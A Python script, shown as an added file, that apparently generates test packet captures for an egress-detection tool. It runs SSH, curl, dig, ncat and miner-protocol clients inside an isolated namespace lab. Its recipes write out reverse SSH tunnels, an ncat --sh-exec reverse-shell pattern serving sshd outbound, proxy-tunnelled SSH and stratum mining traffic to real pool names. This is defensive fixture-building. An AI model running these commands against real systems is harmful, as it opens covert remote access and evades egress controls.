@@ -1,0 +1,579 @@
+"""Regenerate the shipped captures: real programs in the namespace lab, recorded by tcpdump.
+
+Why a script and not hand-made packets: ``egressd test`` is only worth something if the
+captures it is checked against are what OpenSSH, curl, dig and a miner's wire protocol
+really put on a link. Every capture here is made the same way: one lab (two network
+namespaces on documentation addresses, see ``egressd/lab/netns.py``), the peers started in
+the "inet" namespace, tcpdump on the node's veth limited to the peers of that capture, the
+client run in the node namespace, tcpdump stopped, the file checked and moved into place.
+
+Run it as root through ``pcaps/make.sh`` (all captures) or ``make.sh NAME...``. It is
+idempotent (a capture is replaced only when it was made and checked successfully),
+bounded (every program has a timeout; the lab is removed with everything in it on any
+exit), and re-runnable: the bytes differ per run (timestamps, keys, MACs, ports), the flows
+and what they carry do not. After writing a capture it checks that every flow named in
+``<name>.expect.yaml`` is present in it, so an expectation can never silently refer to a
+flow the capture does not contain.
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import hashlib
+import json
+import os
+import select
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from ipaddress import ip_address
+from pathlib import Path
+from typing import Any
+
+import yaml
+
+HERE = Path(__file__).resolve().parent
+REPO = HERE.parent
+sys.path.insert(0, str(REPO))
+
+from egressd.lab.netns import NODE_V4, SERVICES, Lab, lab  # noqa: E402
+from egressd.packet import PROTO_TCP, PROTO_UDP, TCP_ACK, TCP_SYN, Packet, decode  # noqa: E402
+from egressd.pcapio import Reader  # noqa: E402
+
+PY = sys.executable
+SSH_ALLOWED = SERVICES["ssh_allowed"][0]
+SSH_EVIL = SERVICES["ssh_evil"][0]
+POOL, POOL6 = SERVICES["pool"]
+TLS = SERVICES["tls"][0]
+TLS_POOL = SERVICES["tls_pool"][0]
+PROXY = SERVICES["proxy"][0]
+DNS = SERVICES["dns"][0]
+BULK = SERVICES["bulk"][0]
+BULK_BYTES = 256 * 1024
+APT_PACKAGES = (
+    "tcpdump openssh-client openssh-server openssl curl bind9-dnsutils dnsmasq-base ncat microsocks iproute2"
+)
+
+# Names the lab's resolver answers; the pool names are real pool domains (policy lists name them).
+DNS_NAMES = {
+    "tls.example.net": [TLS],
+    "pool.example.net": [POOL],
+    "xmr.nanopool.org": [POOL, POOL6],
+    "xmr-eu1.nanopool.org": [TLS_POOL],
+}
+
+
+class MakeError(RuntimeError):
+    """A step of a capture failed; the message says which program and what it printed."""
+
+
+def log(msg: str) -> None:
+    print(f"[make] {msg}", flush=True)
+
+
+@dataclass
+class Ctx:
+    """What a capture recipe may use: the lab and the generated keys/certificates."""
+
+    lab: Lab
+    tmp: Path
+    files: contextlib.ExitStack
+
+    def logfile(self, name: str) -> Any:
+        """A file in the temp dir for a peer's output (read it when a step fails)."""
+        return self.files.enter_context(open(self.tmp / name, "wb"))
+
+    # -- clients ------------------------------------------------------------------------------
+    def ssh_argv(self, host: str, *extra: str) -> list[str]:
+        return [
+            "ssh", "-F", "/dev/null", "-i", str(self.tmp / "client_key"), "-o", "IdentitiesOnly=yes",
+            "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
+            "-o", "ConnectTimeout=5", "-o", "LogLevel=ERROR", *extra, f"root@{host}",
+        ]  # fmt: skip
+
+    def node(
+        self, argv: list[str], timeout: float = 20.0, ok: bool = True
+    ) -> subprocess.CompletedProcess[str]:
+        p = self.lab.run_node(argv, timeout=timeout)
+        if ok and p.returncode != 0:
+            raise MakeError(
+                f"{' '.join(argv)} -> exit {p.returncode}: {(p.stderr or p.stdout).strip()[-500:]}"
+            )
+        return p
+
+    def stratum_client(self, target: str, variant: str, *extra: str) -> dict[str, Any]:
+        argv = [PY, "-m", "egressd.lab.stratum", "client", "--connect", target, "--variant", variant]
+        p = self.node([*argv, "--timeout", "8", *extra], timeout=20, ok=False)
+        try:
+            rep: dict[str, Any] = json.loads(p.stdout.strip().splitlines()[-1])
+        except (ValueError, IndexError) as e:
+            raise MakeError(f"stratum client printed no report: {p.stdout!r} {p.stderr!r}") from e
+        if p.returncode != 0 or not rep.get("handshake_complete"):
+            raise MakeError(f"stratum client {variant} -> {target} did not complete: {rep}")
+        return rep
+
+    def dig(self, name: str, rtype: str, sport: int, tcp: bool = False) -> str:
+        argv = ["dig", "-r", f"@{DNS}", "-b", f"{NODE_V4}#{sport}", name, rtype, "+time=2", "+tries=1"]
+        out = self.node([*argv, "+tcp"] if tcp else argv).stdout
+        if "status: NOERROR" not in out:
+            raise MakeError(f"dig {name} {rtype} failed:\n{out}")
+        return out
+
+    # -- servers ------------------------------------------------------------------------------
+    @contextlib.contextmanager
+    def pool(self, variant: str, listen: str) -> Iterator[Path]:
+        plog = self.tmp / f"pool-{variant}-{time.monotonic_ns()}.log"
+        argv = [PY, "-m", "egressd.lab.stratum", "pool", "--listen", listen, "--variant", variant]
+        p = self.lab.spawn("inet", [*argv, "--log", str(plog), "--lifetime", "120"], stdout=subprocess.PIPE)
+        try:
+            _wait_line(p, "listening", 10.0, stream="stdout")
+            yield plog
+        finally:
+            self.lab.stop(p)
+
+
+def _wait_line(p: subprocess.Popen[bytes], needle: str, timeout: float, stream: str = "stderr") -> str:
+    """Read ``p``'s stdout/stderr until a line contains ``needle``; bounded by ``timeout``."""
+    f = p.stdout if stream == "stdout" else p.stderr
+    assert f is not None
+    deadline = time.monotonic() + timeout
+    seen = b""
+    while time.monotonic() < deadline:
+        r, _, _ = select.select([f], [], [], max(0.0, deadline - time.monotonic()))
+        if not r:
+            break
+        line = f.readline()
+        if not line:
+            break
+        seen += line
+        if needle.encode() in line:
+            return line.decode(errors="replace")
+    raise MakeError(f"{p.args!r}: no {needle!r} within {timeout} s; it printed {seen[-500:]!r}")
+
+
+def _wait_listening(c: Ctx, ns: str, port: int, timeout: float = 5.0, addr: str = "") -> None:
+    run = c.lab.run_node if ns == "node" else c.lab.run_inet
+    deadline = time.monotonic() + timeout
+    filt = f"sport = :{port}" + (f" and src {addr}" if addr else "")
+    while time.monotonic() < deadline:
+        if run(["ss", "-Hltn", filt], timeout=5).stdout.strip():
+            return
+        time.sleep(0.05)
+    raise MakeError(f"nothing listens on TCP port {port} in the {ns} namespace after {timeout} s")
+
+
+# =================================================================================================
+# Materials and long-running peers
+# =================================================================================================
+def make_materials(tmp: Path) -> None:
+    def run(argv: list[str]) -> None:
+        p = subprocess.run(argv, capture_output=True, text=True, timeout=30)
+        if p.returncode != 0:
+            raise MakeError(f"{' '.join(argv)} -> {p.stderr.strip()}")
+
+    run(
+        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "egressd-lab-host", "-f", str(tmp / "host_key")]
+    )
+    run(
+        [
+            "ssh-keygen",
+            "-q",
+            "-t",
+            "ed25519",
+            "-N",
+            "",
+            "-C",
+            "egressd-lab-client",
+            "-f",
+            str(tmp / "client_key"),
+        ]
+    )
+    shutil.copy(tmp / "client_key.pub", tmp / "authorized_keys")
+    sans = ",".join(f"DNS:{n}" for n in ("tls.example.net", "xmr-eu1.nanopool.org", "bulk.example.net"))
+    run([
+        "openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
+        "-days", "3650", "-subj", "/CN=tls.example.net", "-addext", f"subjectAltName={sans}",
+        "-keyout", str(tmp / "key.pem"), "-out", str(tmp / "cert.pem"),
+    ])  # fmt: skip
+    www = tmp / "www"
+    www.mkdir()
+    # Deterministic, incompressible payload for the bulk download.
+    blob = bytearray()
+    seed = b"egressd-bulk"
+    while len(blob) < BULK_BYTES:
+        seed = hashlib.sha256(seed).digest()
+        blob += seed
+    (www / "blob.bin").write_bytes(bytes(blob[:BULK_BYTES]))
+
+
+def sshd_config(tmp: Path, name: str, listen: list[str]) -> Path:
+    cfg = tmp / f"sshd_{name}.conf"
+    lines = [f"ListenAddress {a}" for a in listen] + [
+        f"HostKey {tmp / 'host_key'}",
+        f"AuthorizedKeysFile {tmp / 'authorized_keys'}",
+        "PidFile none",
+        "PermitRootLogin prohibit-password",
+        "PubkeyAuthentication yes",
+        "PasswordAuthentication no",
+        "KbdInteractiveAuthentication no",
+        "UsePAM no",
+        "StrictModes no",
+        "UseDNS no",
+        "AllowTcpForwarding yes",
+        "GatewayPorts no",
+        "PrintMotd no",
+        "LogLevel VERBOSE",
+    ]
+    cfg.write_text("\n".join(lines) + "\n")
+    return cfg
+
+
+def start_peers(c: Ctx) -> None:
+    """The peers every capture may use; the lab stops them all when it closes."""
+    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)  # sshd's privilege-separation directory
+    t = c.tmp
+    inet_sshd = sshd_config(t, "inet", [f"{SSH_EVIL}:22", f"{SSH_EVIL}:443", f"{SSH_ALLOWED}:22"])
+    node_sshd = sshd_config(t, "node", ["127.0.0.1:22"])  # what a reverse tunnel leads back to
+    for ns, cfg in (("inet", inet_sshd), ("node", node_sshd)):
+        c.lab.spawn(ns, ["/usr/sbin/sshd", "-D", "-e", "-f", str(cfg)], stderr=c.logfile(f"sshd-{ns}.log"))
+    dns_args = [f"--address=/{n}/{a}" for n, addrs in DNS_NAMES.items() for a in addrs]
+    c.lab.spawn(
+        "inet",
+        ["dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--bind-interfaces",
+         f"--listen-address={DNS}", "--port=53", "--user=root", "--pid-file=", "--log-queries",
+         "--log-facility=-", *dns_args],
+        stdout=c.logfile("dnsmasq.log"), stderr=subprocess.STDOUT,
+    )  # fmt: skip
+    c.lab.spawn(
+        "inet",
+        ["ncat", "-l", PROXY, "3128", "--proxy-type", "http", "--keep-open"],
+        stdout=subprocess.DEVNULL, stderr=c.logfile("ncat.log"),
+    )  # fmt: skip
+    c.lab.spawn(
+        "inet",
+        ["microsocks", "-i", PROXY, "-p", "1080"],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    for addr in (TLS, TLS_POOL, BULK):
+        c.lab.spawn(
+            "inet",
+            ["openssl", "s_server", "-accept", f"{addr}:443", "-cert", str(t / "cert.pem"), "-key",
+             str(t / "key.pem"), "-WWW" if addr == BULK else "-www", "-quiet"],
+            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=c.logfile(f"s_server-{addr}.log"),
+            cwd=str(t / "www"),
+        )  # fmt: skip
+    for port in (22, 443, 53, 3128, 1080):
+        _wait_listening(c, "inet", port)
+    _wait_listening(c, "node", 22)
+
+
+# =================================================================================================
+# Capture recipes: each drives real programs once; the filter keeps only the peers involved.
+# =================================================================================================
+@dataclass(frozen=True)
+class Recipe:
+    name: str
+    bpf: str
+    run: Callable[[Ctx], None]
+
+
+def _ssh_reverse(host: str) -> Callable[[Ctx], None]:
+    def run(c: Ctx) -> None:
+        # ssh -N -R: the node opens the connection, the far side later opens channels back.
+        tun = c.lab.spawn(
+            "node",
+            c.ssh_argv(host, "-N", "-R", "2222:127.0.0.1:22", "-o", "ExitOnForwardFailure=yes"),
+            stdin=subprocess.DEVNULL, stderr=c.logfile(f"ssh-R-{host}.log"),
+        )  # fmt: skip
+        try:
+            _wait_listening(c, "inet", 2222, timeout=10)
+            # Someone on the far side uses the tunnel: an SSH session back into the node.
+            argv = [*c.ssh_argv("127.0.0.1", "-p", "2222"), "echo reverse-ok"]
+            p = c.lab.run_inet(argv, timeout=20)
+            if "reverse-ok" not in p.stdout:
+                raise MakeError(f"ssh back through the reverse tunnel failed: {p.stderr.strip()}")
+            time.sleep(1.0)
+        finally:
+            c.lab.stop(tun)
+
+    return run
+
+
+def _ssh_role_inversion(c: Ctx) -> None:
+    """The node dials out and then *serves* SSH on that connection (``sshd -i`` behind an
+    outbound ncat): the reverse-shell pattern, with the roles inverted on the wire."""
+    out = c.tmp / "inverted-ssh.out"
+    listener = c.lab.spawn(
+        "inet",
+        [*c.ssh_argv("node", "-o", f"ProxyCommand=ncat -l {SSH_ALLOWED} 443"), "echo reverse-ok"],
+        stdin=subprocess.DEVNULL, stdout=c.logfile("inverted-ssh.out"), stderr=c.logfile("inverted-ssh.err"),
+    )  # fmt: skip
+    try:
+        _wait_listening(c, "inet", 443, timeout=10, addr=SSH_ALLOWED)
+        sshd_i = f"/usr/sbin/sshd -i -f {c.tmp / 'sshd_node.conf'}"
+        c.node(["ncat", "--sh-exec", sshd_i, SSH_ALLOWED, "443"], timeout=20)
+        listener.wait(10)
+        if "reverse-ok" not in out.read_text():
+            raise MakeError(
+                f"the inverted SSH session did not run: {(c.tmp / 'inverted-ssh.err').read_text()}"
+            )
+    finally:
+        c.lab.stop(listener)
+
+
+def _ssh_cmd(host: str, *extra: str) -> Callable[[Ctx], None]:
+    def run(c: Ctx) -> None:
+        p = c.node([*c.ssh_argv(host, *extra), "echo ssh-ok"])
+        if "ssh-ok" not in p.stdout:
+            raise MakeError(f"ssh {host}: {p.stderr}")
+
+    return run
+
+
+def _ssh_via_connect(c: Ctx) -> None:
+    proxy = f"ProxyCommand=ncat --proxy {PROXY}:3128 --proxy-type http %h %p"
+    _ssh_cmd(SSH_EVIL, "-o", proxy)(c)
+
+
+def _curl(name: str, addr: str, path: str = "/", expect_bytes: int = 0) -> Callable[[Ctx], None]:
+    def run(c: Ctx) -> None:
+        argv = [
+            "curl", "-sS", "--noproxy", "*", "--max-time", "15", "--cacert", str(c.tmp / "cert.pem"),
+            "--resolve", f"{name}:443:{addr}", f"https://{name}{path}", "-o", "/dev/null",
+            "-w", "%{http_code} %{size_download}",
+        ]  # fmt: skip
+        out = c.node(argv).stdout.split()
+        if out[0] != "200" or int(out[1]) < expect_bytes:
+            raise MakeError(f"curl https://{name}{path} -> {out}")
+
+    return run
+
+
+def _dns(c: Ctx) -> None:
+    c.dig("tls.example.net", "A", 40001)
+    c.dig("xmr.nanopool.org", "A", 40002)
+    c.dig("pool.example.net", "A", 40003, tcp=True)
+    c.dig("xmr.nanopool.org", "AAAA", 40004, tcp=True)
+
+
+def _dns_then_stratum(c: Ctx) -> None:
+    out = c.dig("xmr.nanopool.org", "A", 40010)
+    if POOL not in out:
+        raise MakeError(f"xmr.nanopool.org did not resolve to {POOL}: {out}")
+    with c.pool("xmr", f"{POOL}:14444"):
+        c.stratum_client(f"{POOL}:14444", "xmr")
+
+
+def _stratum(variant: str, listen: str, *extra: str, connect: str = "") -> Callable[[Ctx], None]:
+    def run(c: Ctx) -> None:
+        with c.pool(variant if variant != "gbt" else "getwork", listen) as plog:
+            c.stratum_client(connect or listen, variant, *extra)
+            got = [json.loads(x) for x in plog.read_text().splitlines()]
+            if not any(e["event"] == "request" for e in got):
+                raise MakeError(f"the {variant} pool logged no request: {got}")
+
+    return run
+
+
+def _host(*addrs: str) -> str:
+    return " or ".join(f"host {a}" for a in addrs)
+
+
+RECIPES: list[Recipe] = [
+    Recipe("ssh-reverse-tunnel", _host(SSH_EVIL), _ssh_reverse(SSH_EVIL)),
+    Recipe("ssh-allowed-remote-forward", _host(SSH_ALLOWED), _ssh_reverse(SSH_ALLOWED)),
+    Recipe("ssh-role-inversion", _host(SSH_ALLOWED), _ssh_role_inversion),
+    Recipe("ssh-on-443", _host(SSH_EVIL), _ssh_cmd(SSH_EVIL, "-p", "443")),
+    Recipe("ssh-allowed", _host(SSH_ALLOWED), _ssh_cmd(SSH_ALLOWED)),
+    Recipe("ssh-via-connect-proxy", _host(PROXY), _ssh_via_connect),
+    Recipe("tls-sni", _host(TLS), _curl("tls.example.net", TLS)),
+    Recipe("tls-pool-domain", _host(TLS_POOL), _curl("xmr-eu1.nanopool.org", TLS_POOL)),
+    Recipe("benign-https", _host(BULK), _curl("bulk.example.net", BULK, "/blob.bin", BULK_BYTES)),
+    Recipe("dns", _host(DNS), _dns),
+    Recipe("dns-then-stratum", _host(DNS, POOL), _dns_then_stratum),
+    Recipe("stratum-v1", _host(POOL), _stratum("v1", f"{POOL}:3333")),
+    Recipe("stratum-v1-443", _host(POOL), _stratum("v1", f"{POOL}:443")),
+    Recipe("stratum-v1-configure", _host(POOL), _stratum("v1", f"{POOL}:3333", "--configure")),
+    Recipe("stratum-split", _host(POOL), _stratum("v1", f"{POOL}:3333", "--split", "1")),
+    Recipe("stratum-v6", _host(POOL6), _stratum("v1", f"[{POOL6}]:3333")),
+    Recipe("stratum-eth", _host(POOL), _stratum("eth", f"{POOL}:4444")),
+    Recipe("stratum-ethproxy", _host(POOL), _stratum("ethproxy", f"{POOL}:8008")),
+    Recipe("xmr-login", _host(POOL), _stratum("xmr", f"{POOL}:5555")),
+    Recipe("getwork-http", _host(POOL), _stratum("getwork", f"{POOL}:8332")),
+    Recipe("getblocktemplate-http", _host(POOL), _stratum("gbt", f"{POOL}:80")),
+    Recipe(
+        "stratum-via-connect-proxy",
+        _host(PROXY),
+        _stratum("v1", f"{POOL}:3333", "--via-connect", f"{PROXY}:3128"),
+    ),
+    Recipe(
+        "stratum-via-socks5", _host(PROXY), _stratum("xmr", f"{POOL}:3333", "--via-socks5", f"{PROXY}:1080")
+    ),
+]
+
+
+# =================================================================================================
+# Capturing and checking
+# =================================================================================================
+def node_veth(c: Ctx) -> str:
+    out = c.lab.run_node(["ip", "-o", "link", "show", "type", "veth"], timeout=5).stdout
+    names = [line.split(":")[1].strip().split("@")[0] for line in out.splitlines() if ":" in line]
+    if len(names) != 1:
+        raise MakeError(f"expected one veth in the node namespace, found {names}")
+    return names[0]
+
+
+def capture(c: Ctx, r: Recipe, dev: str) -> Path:
+    out = c.tmp / f"{r.name}.pcap"
+    # --immediate-mode: hand each packet over at once (TPACKET_V3 otherwise holds a block up
+    # to a second, and stopping tcpdump would lose the end of the conversation).
+    argv = [
+        "tcpdump",
+        "-i",
+        dev,
+        "--immediate-mode",
+        "-U",
+        "-s",
+        "65535",
+        "-n",
+        "-Z",
+        "root",
+        "-w",
+        str(out),
+        r.bpf,
+    ]
+    td = c.lab.spawn("node", argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    try:
+        _wait_line(td, "listening on", 10.0)
+        r.run(c)
+        time.sleep(0.5)  # the last ACKs and FINs
+    finally:
+        c.lab.stop(td, signal.SIGINT)
+    if td.stderr is not None:
+        tail = td.stderr.read().decode(errors="replace")
+        lines = [x.strip() for x in tail.splitlines()]
+        if "0 packets dropped by kernel" not in lines or "0 packets captured" in lines:
+            raise MakeError(f"tcpdump for {r.name} dropped packets or captured none: {tail.strip()}")
+    return out
+
+
+FlowKey = tuple[int, str, int, str, int]
+
+
+def flows_in(path: Path) -> dict[FlowKey, int]:
+    """Flows by originator (the sender of a SYN without ACK, or of the first UDP datagram)."""
+    flows: dict[FlowKey, int] = {}
+    seen: set[frozenset[tuple[str, int]] | tuple[int, frozenset[tuple[str, int]]]] = set()
+    for _ts, raw in Reader(path):
+        p = decode(raw)
+        if not isinstance(p, Packet) or p.proto not in (PROTO_TCP, PROTO_UDP):
+            continue
+        src, dst = str(ip_address(p.src)), str(ip_address(p.dst))
+        pair = (p.proto, frozenset({(src, p.sport), (dst, p.dport)}))
+        is_syn = p.proto == PROTO_TCP and p.tcp_flags & (TCP_SYN | TCP_ACK) == TCP_SYN
+        if pair in seen and not is_syn:
+            continue
+        if p.proto == PROTO_TCP and not is_syn:
+            continue  # a TCP flow whose SYN was not captured: its originator is unknown
+        seen.add(pair)
+        key = (p.proto, src, p.sport, dst, p.dport)
+        flows[key] = flows.get(key, 0) + 1
+    return flows
+
+
+_PROTO = {"tcp": PROTO_TCP, "udp": PROTO_UDP}
+
+
+def check_expectations(name: str, path: Path) -> None:
+    spec = yaml.safe_load((HERE / f"{name}.expect.yaml").read_text())
+    flows = flows_in(path)
+    for f in spec["flows"]:
+        m = f["match"]
+        hits = [
+            k for k in flows
+            if ("proto" not in m or _PROTO[m["proto"]] == k[0]) and ("src" not in m or str(m["src"]) == k[1])
+            and ("src_port" not in m or m["src_port"] == k[2]) and ("dst" not in m or str(m["dst"]) == k[3])
+            and ("dst_port" not in m or m["dst_port"] == k[4])
+        ]  # fmt: skip
+        if not hits or ("count" in f and len(hits) != f["count"]):
+            raise MakeError(
+                f"{name}: expectation {m} matches {len(hits)} flows in the capture: {sorted(flows)}"
+            )
+
+
+def main(argv: list[str] | None = None) -> int:
+    ap = argparse.ArgumentParser(description="regenerate pcaps/*.pcap with real programs in the lab")
+    ap.add_argument("names", nargs="*", help="captures to make (default: all)")
+    ap.add_argument("--list", action="store_true", help="list the captures and exit")
+    ap.add_argument("--check-only", action="store_true", help="check existing captures against expectations")
+    args = ap.parse_args(argv)
+    known = {r.name: r for r in RECIPES}
+    if args.list:
+        print("\n".join(known))
+        return 0
+    unknown = [n for n in args.names if n not in known]
+    if unknown:
+        ap.error(f"unknown capture(s) {unknown}; known: {', '.join(known)}")
+    chosen = [known[n] for n in args.names] if args.names else RECIPES
+    missing = [r.name for r in chosen if not (HERE / f"{r.name}.expect.yaml").exists()]
+    if missing:
+        raise MakeError(f"no expectation file for {missing}: write pcaps/<name>.expect.yaml first")
+    if args.check_only:
+        for r in chosen:
+            check_expectations(r.name, HERE / f"{r.name}.pcap")
+            log(f"{r.name}: expectations match the capture's flows")
+        return 0
+    if os.geteuid() != 0:
+        raise MakeError("needs root (network namespaces, tcpdump): run pcaps/make.sh")
+    for tool in (
+        "tcpdump",
+        "ssh",
+        "/usr/sbin/sshd",
+        "ssh-keygen",
+        "openssl",
+        "curl",
+        "dig",
+        "dnsmasq",
+        "ncat",
+        "microsocks",
+        "ss",
+    ):
+        if shutil.which(tool) is None:
+            raise MakeError(f"{tool} is not installed; apt: {APT_PACKAGES}")
+    os.environ["PYTHONPATH"] = str(REPO)
+    # SIGTERM (a CI timeout, kill) must unwind like Ctrl-C so the lab and its peers go away.
+    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
+    with (
+        tempfile.TemporaryDirectory(prefix="egressd-pcaps-") as td,
+        contextlib.ExitStack() as files,
+        lab(f"egdcap{os.getpid() % 10000}") as lb,
+    ):
+        tmp = Path(td)
+        make_materials(tmp)
+        c = Ctx(lb, tmp, files)
+        start_peers(c)
+        dev = node_veth(c)
+        for r in chosen:
+            t0 = time.monotonic()
+            out = capture(c, r, dev)
+            check_expectations(r.name, out)
+            shutil.move(str(out), HERE / f"{r.name}.pcap")
+            n = sum(1 for _ in Reader(HERE / f"{r.name}.pcap"))
+            log(f"{r.name}.pcap: {n} packets, {(HERE / f'{r.name}.pcap').stat().st_size} bytes, "
+                f"{time.monotonic() - t0:.1f} s")  # fmt: skip
+    return 0
+
+
+if __name__ == "__main__":
+    try:
+        sys.exit(main())
+    except MakeError as e:
+        print(f"make.py: {e}", file=sys.stderr)
+        sys.exit(1)
